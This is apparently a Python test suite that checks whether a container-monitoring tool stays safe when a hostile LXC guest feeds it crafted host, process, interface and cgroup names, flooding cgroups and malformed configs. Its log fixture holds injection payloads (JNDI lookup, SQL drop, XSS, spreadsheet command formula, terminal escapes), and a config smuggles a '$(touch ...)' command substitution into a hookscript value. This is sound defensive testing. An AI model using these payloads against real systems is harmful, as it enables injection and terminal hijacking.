#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Hostile cases that are about no file of the guest's: names it gives to itself, its
processes, interfaces and cgroups, lines in its logs, configs. All in a few containers."""
import base64
import json
import os
import re
import shutil
import subprocess
import threading
import time

import live
from live import (BUILD, CGROUP, SLOW, Failed, Load, Skip, check, ctjson, ctscope, destroy, equal,
                  guest, main, make, note, pct, rootfs, rows, status, test, until, write_conf)

ATTACKER = BUILD + "/tests/guest/attacker"
LONG = bool(os.environ.get("GUEST_LONG"))
A, B, C, D = 640, 641, 642, 643
NAME = b'a"\n\x1b[31m\xff,b'


def steers(data):
    """Characters that no output may have."""
    return [c for c in data.decode("utf-8", "replace")
            if (ord(c) < 32 and c not in "\n") or 0x7f <= ord(c) < 0xa0 or
            c in "\u202e\u2066\u2069\u200e\u200f\ufeff"]


def clean(*args, codes=(0, 1)):
    """Its output, which steers nothing, as text and as JSON."""
    r = ctscope(*args, code=None)
    check(r.code in codes, "%s: exit %d %r" % (args[0], r.code, r.err))
    equal(steers(r.out + r.err), [], "in %s: %r" % (args, (r.out + r.err)[:2000]))
    if "--json" in args:
        json.loads(r.out.decode())
    return r


def everywhere(vmid):
    for cmd in (["list"], ["status", vmid], ["ps", vmid], ["network", vmid], ["drift", vmid],
                ["config", vmid], ["audit", vmid], ["df", vmid],
                ["usage", "--interval", "0", vmid]):
        clean(*cmd)
        clean(*cmd, "--json")


def keep(vmid):
    """The tests after this one go on with it."""
    live._made.remove(vmid)


def pair():
    """Two containers of the same name: in place as long as this program."""
    for vmid in (A, B):
        if os.path.exists(pct.conf_path(vmid)):
            continue
        make(vmid, start=False, hostname="twin", ostype="debian")
        shutil.copy(ATTACKER, rootfs(vmid) + "/bin/attacker")
        pct.start(vmid)
        keep(vmid)
    until(lambda: guest(A, "/bin/true") == "", "start")


class Attack(Load):
    def __init__(self, vmid, *args):
        self.p = subprocess.Popen(["lxc-attach", "-n", str(vmid), "--clear-env", "--",
                                   "/bin/attacker"] + list(args), stdin=subprocess.DEVNULL,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        if self.p.stdout.readline() != b"ready\n":
            code, said = self.p.wait(), self.p.stderr.read().decode()
            if code == 77:
                raise Skip("this kernel gives it no means: %s" % said.strip())
            raise Failed("attacker %s: exit %d %s" % (args, code, said))

    def __exit__(self, *exc):
        super().__exit__(*exc)
        self.p.stderr.close()


def called(attack, comm):
    """Its process: lxc-attach has another between, which ends."""
    def find():
        for pid in attack.pids()[1:]:
            try:
                with open("/proc/%d/comm" % pid, "rb") as f:
                    if f.read() == comm + b"\n":
                        return pid
            except OSError:
                pass
    return until(find, "a process called %r" % comm)


def sh(vmid, text):
    return guest(vmid, "/bin/sh", "-c", text)


def guest_bytes(vmid, *cmd):
    return subprocess.run(["lxc-attach", "-n", str(vmid), "--clear-env", "--"] + list(cmd),
                          stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, check=True).stdout


def uts(vmid):
    """What a naive reader has of it."""
    return subprocess.run(["nsenter", "-u", "-t", str(pct.init_pid(vmid)), "cat",
                           "/proc/sys/kernel/hostname"], stdout=subprocess.PIPE,
                          check=True).stdout[:-1]


def hostname_drift(vmid):
    def known():
        c = ctjson_any("drift", vmid)["container"]
        return c if c["compared"] else None
    # one that has only now started is not compared yet
    found = [d for d in until(known, "drift")["drift"] if d["key"] == "hostname"]
    return exact(found[0]["running"]) if found else None


def exact(text):
    """The bytes that a text of our JSON stands for."""
    return base64.b64decode(text["b64"]) if isinstance(text, dict) else text.encode()


def ctjson_any(*args):
    return json.loads(clean(*args, "--json").out)


@test("H27 a host name of newline, ESC and bytes that are no text: escaped, in every output")
def h27():
    pair()
    guest(A, "/bin/attacker", "hostname", NAME.hex())
    equal(uts(A), NAME, "control: a naive reader has it raw")
    with open(rootfs(A) + "/etc/hostname", "wb") as f:
        f.write(NAME)
    everywhere(A)
    equal(hostname_drift(A), NAME, "drift")


@test("H28 a host name of 64 bytes, an empty one: exact")
def h28():
    pair()
    for name in (b"x" * 64, b"\xff" * 64, b"\x1b" * 64, b""):
        guest(A, "/bin/attacker", "hostname", name.hex())
        equal(uts(A), name, "control: it has that name")
        equal(hostname_drift(A), name, "drift")
        clean("drift", A)
    guest(A, "/bin/attacker", "hostname", b"twin".hex())
    equal(hostname_drift(A), None, "drift of the right name")


def naive_stat(pid):
    """State and parent, as who splits at blanks has them."""
    with open("/proc/%d/stat" % pid, "rb") as f:
        return f.read().split()[2:4]


@test("H29 a process whose name forges the rest of its stat: state and parent are its own")
def h29():
    pair()
    with Attack(A, "comm", b"a) R 1\n\x1b[2J\\".hex()) as attack:
        pid, parent = called(attack, b"a) R 1\n\x1b[2J\\"), attack.p.pid
        until(lambda: "State:\tS" in open("/proc/%d/status" % pid).read() and
              "\nPPid:\t%d\n" % parent in open("/proc/%d/status" % pid).read(), "it sleeps")
        equal(naive_stat(pid), [b"R", b"1"], "control: a naive reader's state and parent")
        p = [p for p in ctjson_any("ps", A)["container"]["processes"] if p["pid"] == pid]
        equal([(p["state"], p["ppid"]) for p in p], [("sleeping", parent)], "state, parent")
        everywhere(A)


@test("H30 processes that call themselves another container's init or monitor: whose they are")
def h30():
    pair()
    init, other = pct.init_pid(A), pct.init_pid(B)
    with Attack(A, "imitate", b"lxc-start".hex(), "[lxc monitor] /var/lib/lxc %d" % B) as one, \
            Attack(A, "imitate", b"init".hex(), "/sbin/init"), \
            Attack(A, "imitate", b"ctscoped".hex(), "/usr/sbin/ctscoped"):
        pid = called(one, b"lxc-start")
        found = subprocess.run(["pgrep", "-f", "^.lxc monitor. /var/lib/lxc %d" % B],
                               stdout=subprocess.PIPE).stdout.split()
        check(str(pid).encode() in found, "control: by its name it is the monitor: %s" % found)
        equal((status(A)["pid"], status(B)["pid"]), (init, other), "inits")
        check(pid in [p["pid"] for p in ctjson_any("ps", A)["container"]["processes"]], "ps")
        check(pid not in [p["pid"] for p in ctjson_any("ps", B)["container"]["processes"]],
              "ps of the other")
        pct.kill(B)
        pct.wait_stopped(B)
        try:
            check(subprocess.run(["pgrep", "-f", "^.lxc monitor. /var/lib/lxc %d" % B],
                                 stdout=subprocess.DEVNULL).returncode == 0,
                  "control: by its name the other runs on")
            equal((status(B)["status"], rows()[B]["status"]), ("stopped", "stopped"), "other")
            check("pid" not in status(B), "%s" % status(B))
        finally:
            pct.start(B)


@test("H49 two containers with the same name, in the config and inside: two everywhere")
def h49():
    pair()
    r = rows()
    equal((r[A]["name"], r[B]["name"]), ("twin", "twin"), "control: a name tells them not apart")
    check(status(A)["pid"] != status(B)["pid"], "init")
    guest(A, "/bin/sh", "-c", "sleep 4321 >/dev/null 2>&1 &")
    for vmid, n in ((A, 1), (B, 0)):
        equal(clean("ps", vmid).out.count(b"sleep 4321"), n, "processes of %d" % vmid)
    for cmd in ("status", "config", "df"):
        r = ctscope(cmd, "twin", code=None)
        check(r.code in (2, 3), "%s by a name: exit %d" % (cmd, r.code))


NAMES = [b'a"}b', b"\x1b[2Jb", b"\xff\xfe", b"a%d{}", b"';DROP", b"--help"]


@test("H35 interfaces renamed to ESC, quotes and bytes that are no text: known by the node's end")
def h35():
    make(C, start=False, net="ip=10.99.1.42/24")
    shutil.copy(ATTACKER, rootfs(C) + "/bin/attacker")
    pct.start(C)
    keep(C)
    name = b"eth0"
    for to in NAMES:
        guest(C, "ip", "link", "set", name, "down")
        guest(C, "ip", "link", "set", "dev", name, "name", to)
        # the kernel takes %d for a number
        name = to.replace(b"%d", b"0")
        guest(C, "ip", "link", "set", "dev", name, "up")
        raw = guest_bytes(C, "cat", "/proc/net/dev")
        check(name + b":" in raw, "control: a naive reader has it raw: %r" % raw)
        i = ctjson_any("network", C)["container"]["interfaces"][0]
        equal((i["id"], exact(i["guest"]["name"])), ("net0", name), "network")
        clean("network", C)
    for cmd in ("list", "status", "usage"):
        clean(*([cmd] + ([] if cmd == "list" else [C]) +
                (["--interval", "0"] if cmd == "usage" else [])))
    rows_before = rows()[C]
    check(rows_before.get("netin") is not None, "list: %s" % rows_before)
    guest(C, "ip", "link", "set", name, "down")
    guest(C, "ip", "link", "set", "dev", name, "name", "eth0")
    guest(C, "ip", "link", "set", "eth0", "up")


@test("H36 hundreds of interfaces, one renamed all the time, one moved away: counters stay whose "
      "they are")
def h36():
    n = 1000 if LONG else 200
    init = pct.init_pid(C)
    batch = "".join("link add v%d type veth peer name w%d\n" % (i, i) for i in range(n // 2))
    p = subprocess.run(["nsenter", "-n", "-t", str(init), "ip", "-batch", "-"],
                       input=batch.encode(), stderr=subprocess.PIPE)
    if p.returncode:
        raise Skip("no veth: %s" % p.stderr.decode()[:100])
    r = clean("network", C, "--json")
    note("network with %d interfaces: %.2f s, %d bytes" % (n, r.seconds, len(r.out)))
    c = json.loads(r.out)["container"]
    shown = len(c["interfaces"]) + len(c.get("others", []))
    check(r.seconds < 3 * SLOW, "%.2f s" % r.seconds)
    check(clean("network", C).out.count(b"\n") < 300, "lines of the table")
    note("%d shown, %s" % (shown, {k: v for k, v in c.items() if "more" in k or "left" in k}))
    with open("/sys/class/net/veth%di0/statistics/tx_bytes" % C) as f:
        least = int(f.read())
    with Attack(C, "ifname", "eth0", "e1"):
        for _ in range(10):
            i = ctjson_any("network", C)["container"]["interfaces"][0]
            equal((i["id"], i["bridge"]["port"]), ("net0", "veth%di0" % C), "network")
            check(rows()[C]["netin"] >= least, "netin went back: %s" % rows()[C])
    # into a network namespace of the guest's own making
    sh(C, "ip link set eth0 down; ip link set eth0 name e1; ip link set e1 down; "
       "unshare -n sleep 1000 >/dev/null 2>&1 & "
       "while [ \"$(readlink /proc/$!/ns/net)\" = \"$(readlink /proc/self/ns/net)\" ]; do "
       "sleep 0.05; done; ip link set e1 netns $!")
    check(b"e1" not in guest_bytes(C, "cat", "/proc/net/dev"), "control: it is gone")
    for cmd in ("network", "list", "status", "usage"):
        clean(*([cmd] + ([] if cmd == "list" else [C]) +
                (["--interval", "0"] if cmd == "usage" else [])))
    i = ctjson_any("network", C)["container"]["interfaces"][0]
    equal(i["guest"], {"moved": True}, "it is said")
    check(rows()[C]["netin"] >= least, "the node's end is still its own: %s" % rows()[C])


def ns(vmid):
    return "%s/lxc/%d/ns" % (CGROUP, vmid)


def spent(*args):
    """Exit code, CPU seconds and the most memory of a command."""
    p = subprocess.Popen([live.CTSCOPE] + [str(a) for a in args], stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _, code, use = os.wait4(p.pid, 0)
    p.returncode = os.waitstatus_to_exitcode(code)
    return p.returncode, use.ru_utime + use.ru_stime, use.ru_maxrss


def least(*args):
    """CPU seconds: of what it does itself and what it starts, on a machine that is busy."""
    return min(spent(*args)[1] for _ in range(3))


@test("H38 H39 nested cgroups by the thousand, and as deep as there may be: the same time, bounded")
def h38():
    pair()
    n = 100000 if LONG else 3000
    calm = least("list"), least("status", A)
    sh(A, "mkdir /sys/fs/cgroup/many /sys/fs/cgroup/deep")
    try:
        guest(A, "/bin/attacker", "dirs", "/sys/fs/cgroup/many", str(n))
        deep = int(guest(A, "/bin/attacker", "deep", "/sys/fs/cgroup/deep", "300").split()[1])
        check(deep * 250 > 8192, "control: no path leads there: %d deep" % deep)
        t0 = time.monotonic()
        met = sum(len(dirs) for _, dirs, _ in os.walk(ns(A) + "/many"))
        equal(met, n, "control: a naive reader walks them all")
        note("who walks them all takes %.0f ms" % ((time.monotonic() - t0) * 1000))
        now = least("list"), least("status", A)
        note("%d cgroups, %d deep; list %.1f ms, before %.1f; status %.1f, before %.1f" % (
            n, deep, now[0] * 1000, calm[0] * 1000, now[1] * 1000, calm[1] * 1000))
        for a, b in zip(now, calm):
            check(a < 1.5 * b + 0.005 * SLOW, "%.1f ms, before %.1f" % (a * 1000, b * 1000))
        # something runs at the very bottom
        walk = "cd /sys/fs/cgroup/deep; while cd d* 2>/dev/null; do :; done; " \
            "echo $$ >cgroup.procs; exec sleep 6543"
        p = subprocess.Popen(["lxc-attach", "-n", str(A), "--clear-env", "--", "/bin/sh", "-c",
                              walk], stdin=subprocess.DEVNULL)
        try:
            until(lambda: b"sleep 6543" in ctscope("ps", A).out, "ps shows it")
            for args in (["ps", A], ["usage", "--tree", "--interval", "0", A]):
                r = clean(*args)
                note("%s: %.2f s, %d bytes" % (args[0], r.seconds, len(r.out)))
                check(r.seconds < (20 if LONG else 5) * SLOW, "%s: %.2f s" % (args[0], r.seconds))
                check(len(r.out) < 200000, "%s: %d bytes" % (args[0], len(r.out)))
                clean(*args, "--json")
        finally:
            subprocess.run(["pkill", "-9", "-P", str(p.pid)])
            p.wait()
    finally:
        until(lambda: subprocess.run(["find", ns(A) + "/many", ns(A) + "/deep", "-depth", "-type",
                                      "d", "-delete"], stderr=subprocess.DEVNULL).returncode == 0,
              "removed", 60)


@test("H40 cgroups whose names are any bytes: escaped, their processes are seen")
def h40():
    pair()
    names = [b"e\x1b[31m", b'q"', b"t\tb", b"\xff\xfe", b"n" * 255, b"--help"]
    for name in names:
        guest(A, "mkdir", "--", b"/sys/fs/cgroup/" + name)
    check(set(names) < set(os.listdir(os.fsencode(ns(A)))), "control: they are there")
    p = [subprocess.Popen(["lxc-attach", "-n", str(A), "--clear-env", "--", "/bin/sh", "-c",
                           b"echo $$ >\"$0\"/cgroup.procs; exec sleep 77%d" % i,
                           b"/sys/fs/cgroup/" + name], stdin=subprocess.DEVNULL)
         for i, name in enumerate(names)]
    try:
        def seen():
            out = clean("ps", A).out
            return all(b"sleep 77%d" % i in out for i in range(len(names)))
        until(seen, "processes of all")
        cgroups = [exact(x["cgroup"]) for x in ctjson_any("ps", A)["container"]["processes"]
                   if x.get("args", [""])[0] == "sleep" and x["cgroup"]]
        for name in names:
            check(any(c.endswith(name) for c in cgroups), "%r is not among %r" % (name, cgroups))
        for args in (["ps", A], ["usage", "--tree", "--interval", "0", A]):
            clean(*args)
            clean(*args, "--json")
    finally:
        for x in p:
            subprocess.run(["pkill", "-9", "-P", str(x.pid)])
            x.wait()


@test("H41 a cgroup of threads, of which cgroup.procs cannot be read: its processes are seen")
def h41():
    pair()
    # lxc-attach is in a cgroup of its own, and beside such a one there can be none of threads
    p = subprocess.Popen(["lxc-attach", "-n", str(B), "--clear-env", "--", "/bin/sh", "-c",
                          "cd /sys/fs/cgroup; echo $$ >cgroup.procs; mkdir th; echo threaded "
                          ">th/cgroup.type; echo $$ >th/cgroup.threads; exec sleep 779"],
                         stdin=subprocess.DEVNULL)
    try:
        until(lambda: os.path.exists(ns(B) + "/th/cgroup.threads") and
              open(ns(B) + "/th/cgroup.threads").read(), "threaded")
        try:
            open(ns(B) + "/th/cgroup.procs").read()
            raise Failed("control: it can be read")
        except OSError as e:
            equal(e.errno, 95, "control: EOPNOTSUPP")
        until(lambda: b"sleep 779" in clean("ps", B).out, "ps shows it")
        clean("usage", "--tree", "--interval", "0", B)
    finally:
        subprocess.run(["pkill", "-9", "-P", str(p.pid)])
        p.wait()
        until(lambda: not subprocess.run(["rmdir", ns(B) + "/th"],
                                         stderr=subprocess.DEVNULL).returncode, "rmdir")


@test("H42 cgroups made and removed at full speed: no error in what looks at them")
def h42():
    pair()
    sh(A, "mkdir -p /sys/fs/cgroup/x")
    commands = (["ps", A], ["usage", "--tree", "--interval", "0", A], ["list"])
    calm = [clean(*args).err for args in commands]
    with Attack(A, "churn", "/sys/fs/cgroup/x"):
        for _ in range(5 if SLOW == 1 else 2):
            for args, err in zip(commands, calm):
                said = re.sub(rb".* cgroups of the container are not shown\n", b"",
                              clean(*args).err)
                equal(said, err, "stderr of %s" % args[0])


EVENT = ('{"specversion":"1.0","id":"1","source":"/pve/x","subject":"lxc/640",'
         '"type":"ctscope.container.stopped","data":{"cause":"oom-init"}}')


@test("H19 H20 H21 H52 H53 a log that steers, that is no text, that plays events and formats: text")
def h19():
    pair()
    lines = [EVENT, "Nov 21 16:00:00 x ctscope[1]: container 641: stopped", "%s%n%s%n%99999999d",
             "${jndi:ldap://x/a}", "'; DROP TABLE events; --", "<script>alert(1)</script>",
             "=cmd|'/c calc'!A0", "\x1b]52;c;aGk=\x07 \x1b[6n \x1bP$q\x1b\\\\ \u202etxt \u2066x",
             "a\rb", "x" * 100000]
    raw = "\n".join(lines).encode() + b"\n\x00\x01 \x9b31m \xc0\xaf \xff\xfe\x41\x00\n"
    with open(rootfs(A) + "/var/log/evil", "wb") as f:
        f.write(raw)
    check(steers(guest_bytes(A, "cat", "/var/log/evil")), "control: a naive reader prints them")
    r = clean("logs", A, "--file", "/var/log/evil")
    for text in lines[:7]:
        check(text.encode() in r.out, "%r is not in %r" % (text, r.out[:3000]))
    check(max(len(x) for x in r.out.splitlines()) < 20000, "a line of %d" % max(
        len(x) for x in r.out.splitlines()))
    j = ctjson_any("logs", A, "--file", "/var/log/evil")
    check("container" in j and EVENT in json.dumps(j).replace('\\"', '"'), "JSON")
    # nothing of it is an event, or another container's
    check(EVENT.encode() not in clean("logs", B).out, "in the log of the other")
    equal(status(A)["status"], "running", "status")


CONFIGS = {
    "10 MB": b"x" * (10 << 20),
    "1 MB in one line": b"description: " + b"x" * 1000000,
    "no newline": b"hostname: last",
    "10,000 mount points": b"".join(b"mp%d: /srv,mp=/m%d\n" % (i, i) for i in range(10000)),
    "a key 10,000 times": b"hostname: a\n" * 10000,
    "1,000 snapshots": b"".join(b"[s%d]\nhostname: a\nparent: s%d\n" % (i, (i + 1) % 1000)
                                for i in range(1000)),
    "one snapshot 1,000 times": b"[s]\nhostname: a\n" * 1000,
    "no UTF-8": b"hostname: \xff\xfe\xc0\xaf\ntags: \x9b31m\n",
    "ESC": b"#\x1b]0;x\x07\n#%1b[31m%0a\ndescription: \x1b[2J\nhostname: \x1bc\n",
    "CRLF": b"hostname: a\r\nmemory: 64\r\n",
    "NUL": b"host\0name: a\nhostname: a\0b\n\0\0\0",
}


@test("H62 configs of 10 MB, 10,000 keys, 1,000 snapshots, no text: in 50 ms, in bounded memory")
def h62():
    calm, worst = spent("list"), (0, "")
    ids = {D + i: what for i, what in enumerate(CONFIGS)}
    for vmid, what in ids.items():
        write_conf(vmid, "")
        with open(pct.conf_path(vmid), "wb") as f:
            f.write(b"arch: amd64\nrootfs: local:9/x.raw,size=1G\n" + CONFIGS[what])
    try:
        clean("list")
        found = {c["vmid"] for c in ctjson_any("list")["containers"]}
        check(set(ids) <= found, "all are in the list: %s" % found)
        for vmid, what in ids.items():
            r = clean("config", vmid, codes=(0, 1, 3))
            if r.code != 3:
                clean("config", vmid, "--json")
            code, cpu, rss = spent("config", vmid, "--json")
            worst = max(worst, (cpu, what))
            check(rss < calm[2] + 64 * 1024, "%s: %d KiB" % (what, rss))
            check(cpu < 0.2 * SLOW, "%s: %.3f s" % (what, cpu))
    finally:
        for vmid in ids:
            os.unlink(pct.conf_path(vmid))
        pct.dotfiles()
    note("config: %.1f ms at most, of %s; list without them %.1f ms" % (
        worst[0] * 1000, worst[1], calm[1] * 1000))


@test("H63 lxc.hook lines and a hookscript: shown, and run by nobody but LXC")
def h63():
    flag = "/run/node/h63"
    make(D, start=False, raw=["lxc.hook.pre-start: /bin/touch " + flag,
                              "hookscript: local:snippets/$(touch %s).sh" % flag])
    for cmd in ("config", "status", "audit", "drift", "df", "network", "snapshots", "backups"):
        r = clean(cmd, D, codes=(0, 1, 3))
        if cmd == "config":
            check(b"lxc.hook.pre-start" in r.out and b"hookscript" in r.out, "%r" % r.out)
    check(not os.path.exists(flag), "it was run")
    pct.start(D)
    check(os.path.exists(flag), "control: LXC runs it")


@test("H64 a config that is replaced all the time: the old or the new, never of both")
def h64():
    text = "arch: amd64\nhostname: %s\nrootfs: local:9/x.raw,size=1G\n%sdescription: %s\n"
    one = text % ("a" * 60, "#a\n" * 3000, "a" * 60)
    two = text % ("b" * 60, "#b\n" * 3000, "b" * 60)
    stop = threading.Event()

    def churn():
        i = 0
        while not stop.is_set():
            with open(pct.conf_path(D) + ".tmp.1", "w") as f:
                f.write((one, two)[i % 2])
            os.rename(pct.conf_path(D) + ".tmp.1", pct.conf_path(D))
            i += 1

    write_conf(D, one)
    t = threading.Thread(target=churn)
    t.start()
    try:
        seen = set()
        for i in range(1000):
            if len(seen) == 2 and i >= (60 if SLOW == 1 else 10):
                break
            c = ctjson("config", D)["container"]
            text = json.dumps(c)
            both = ("a" * 60 in text) + 2 * ("b" * 60 in text)
            check(both in (1, 2), "of both: %s" % text[:500])
            seen.add(both)
        equal(seen, {1, 2}, "control: it was replaced meanwhile")
    finally:
        stop.set()
        t.join()
        os.unlink(pct.conf_path(D))
        pct.dotfiles()
    # moved away by a migration
    r = ctscope("config", D, code=3)
    equal(r.err.count(b"\n"), 1, "one sentence: %r" % r.err)


@test("the pair ends")
def end_pair():
    for vmid in (A, B, C):
        if os.path.exists(pct.conf_path(vmid)):
            destroy(vmid)


main()
